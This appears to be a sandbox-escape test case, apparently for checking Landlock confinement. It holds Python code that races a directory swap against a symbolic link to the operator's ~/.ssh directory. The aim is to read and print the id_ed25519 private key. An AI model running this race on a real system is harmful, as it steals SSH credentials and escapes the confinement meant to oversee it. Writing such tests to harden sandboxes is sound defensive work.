# title: swaps a directory for a symbolic link while another thread opens through it
# harm: learns
# B: Landlock decides on the file that was opened
# C: the link's target is not there
import threading
os.mkdir('door'); open('door/id_ed25519', 'w').write('decoy')
os.symlink(OP_HOME + '/.ssh', 'trap')
done = time.time() + 1.5
def swap():
    while time.time() < done:
        libc.renameat2(-100, b'door', -100, b'trap', 2)  # RENAME_EXCHANGE
threading.Thread(target=swap).start()
while time.time() < done:
    try:
        text = open('door/id_ed25519').read()
        if text != 'decoy': print(text); break
    except OSError: pass
